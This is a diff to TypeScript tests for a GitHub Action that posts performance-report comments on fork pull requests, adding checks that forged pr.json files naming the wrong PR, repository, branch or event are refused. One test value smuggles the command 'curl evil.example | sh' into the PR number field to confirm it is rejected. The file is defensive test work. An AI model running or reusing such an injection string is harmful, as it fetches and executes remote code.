@@ -41,9 +41,9 @@ afterAll(async () => {
   await gh.close();
 });
 
-const commentMode = (report: string, opts: { inputs?: Record<string, string>; event?: any } = {}): Promise<ActionRun> =>
+const commentMode = (report: string, opts: { inputs?: Record<string, string>; event?: any; eventName?: string } = {}): Promise<ActionRun> =>
   runAction({
-    workspace: trusted, apiUrl: gh.url, eventName: 'workflow_run',
+    workspace: trusted, apiUrl: gh.url, eventName: opts.eventName ?? 'workflow_run',
     event: opts.event ?? workflowRunEvent({ headSha: fork.headSha, headRepo: fork.headRepo }),
     inputs: { mode: 'comment', report, 'github-token': TOKEN, ...opts.inputs },
   });
@@ -95,6 +95,14 @@ describe('fork pull request, then the workflow_run comment step', () => {
     expect(r.summary).toContain('| Scenario | Metric |');
   });
 
+  it('a re-run, with GitHub linking the run to the PR, updates the same comment', async () => {
+    const count = () => gh.state.comments(REPO, 2).filter((c) => c.body.startsWith(MARKER)).length;
+    const r = await commentMode(join(forkReportDir, 'report.json'), { event: workflowRunEvent({ headSha: fork.headSha, headRepo: fork.headRepo, pullRequests: [2] }) });
+    expect(r.code, r.stdout).toBe(0);
+    expect(count()).toBe(1);
+    expect(r.outputs['comment-url']).toContain(`#issuecomment-${oursId}`);
+  });
+
   it('user text from the report is escaped: no raw HTML, no mentions, no links', async () => {
     const dir = mkdtempSync(join(tmpdir(), 'perf-gate-evil-'));
     const report = JSON.parse(readFileSync(join(forkReportDir, 'report.json'), 'utf8'));
@@ -123,12 +131,24 @@ describe('forged or malformed artifacts: one clear error, no comment', () => {
     ['pr.json number is not a number', (_, p) => void (p.number = '2; curl evil.example | sh'), /pr\.json is not a valid.*"number" is not a pull request number/],
     ['pr.json names a PR that does not exist', (_, p) => void (p.number = 999), /refusing to post this report: pull request Codertocat\/Hello-World#999 from pr\.json does not exist/],
     ['pr.json names another commit than the run built', (_, p) => void (p.headSha = 'a'.repeat(40)), /refusing to post this report: pr\.json names commit a{40}, but the run that uploaded it built/],
-    ['pr.json names another PR of the base repository', (_, p) => void (p.number = 3), /refusing to post this report: Codertocat\/Hello-World#3 comes from Codertocat\/Hello-World, not forker\/Hello-World/],
+    ['pr.json names another PR of the base repository', (_, p) => void (p.number = 3), /refusing to post this report: Codertocat\/Hello-World#3 comes from Codertocat\/Hello-World, but the run that uploaded the report built forker\/Hello-World/],
+    ['another PR with the same head commit, from another repository', (_, p) => void (p.number = 6), /refusing to post this report: Codertocat\/Hello-World#6 comes from mallory\/Hello-World, but the run that uploaded the report built forker\/Hello-World/],
+    ['the same, with pr.json\'s head repository edited to match it', (_, p) => void Object.assign(p, { number: 6, headRepo: 'mallory/Hello-World' }), /refusing to post this report: pr\.json names head repository mallory\/Hello-World, but the run that uploaded it built forker\/Hello-World/],
+    ['another PR with the same head commit, from another branch of the fork', (_, p) => void (p.number = 5), /refusing to post this report: Codertocat\/Hello-World#5 is branch patch-2, but the run that uploaded the report built branch patch-1/],
+    ['a PR number GitHub does not link to the run', (_, p) => void Object.assign(p, { number: 3, event: workflowRunEvent({ headSha: fork.headSha, headRepo: fork.headRepo, pullRequests: [2] }) }), /refusing to post this report: pr\.json names #3, but GitHub links the run that uploaded it to #2/],
+    ['an event from a push, not a pull request', (_, p) => void (p.event = workflowRunEvent({ headSha: fork.headSha, headRepo: fork.headRepo, event: 'push' })), /refusing to post this report: the run that uploaded it was triggered by push, not by a pull request/],
+    ['not a workflow_run event at all', (_, p) => void (p.eventName = 'pull_request'), /mode: comment runs only on a workflow_run event \(this is pull_request\)/],
     ['another gate name', (_, p) => void (p.name = 'other-gate'), /the report is from gate "other-gate" but this step posts gate "rabbitmq-perf-gate"/],
     ['pr.json missing', (_, p) => void (p.missing = true), /pr\.json is not a valid rabbitmq-perf-gate PR file: missing/],
   ];
   beforeAll(() => {
     gh.state.addPull(REPO, { head: 'other-work', number: 3 });
+    // Open PRs whose head is the very commit the fork's run built: another branch of the fork and another repository.
+    gh.state.requireRepo(fork.headRepo).refs.set('heads/patch-2', fork.headSha);
+    gh.state.newPull(gh.state.requireRepo(REPO), gh.state.requireRepo(fork.headRepo), { head: 'patch-2', base: 'main', title: 'Same commit, other branch', number: 5 });
+    gh.state.addRepo('mallory/Hello-World', { ownerType: 'User' });
+    gh.state.requireRepo('mallory/Hello-World').refs.set('heads/patch-1', fork.headSha);
+    gh.state.newPull(gh.state.requireRepo(REPO), gh.state.requireRepo('mallory/Hello-World'), { head: 'patch-1', base: 'main', title: 'Same commit, other repository', number: 6 });
   });
   for (const [what, mutate, message] of cases) {
     it(what, async () => {
@@ -137,10 +157,13 @@ describe('forged or malformed artifacts: one clear error, no comment', () => {
       const pr = JSON.parse(readFileSync(join(forkReportDir, 'pr.json'), 'utf8'));
       const text = mutate(report, pr);
       writeFileSync(join(dir, 'report.json'), text ?? JSON.stringify(report));
-      if (!pr.missing) writeFileSync(join(dir, 'pr.json'), JSON.stringify(pr));
+      const { event, eventName, missing } = pr;
+      delete pr.event;
+      delete pr.eventName;
+      if (!missing) writeFileSync(join(dir, 'pr.json'), JSON.stringify(pr));
       const before = snapshot();
       const writesBefore = writes(gh).length;
-      const r = await commentMode(join(dir, 'report.json'));
+      const r = await commentMode(join(dir, 'report.json'), { event, eventName });
       expect(r.code, r.stdout).toBe(1);
       const errors = r.stdout.split('\n').filter((l) => l.startsWith('::error'));
       expect(errors).toHaveLength(1);
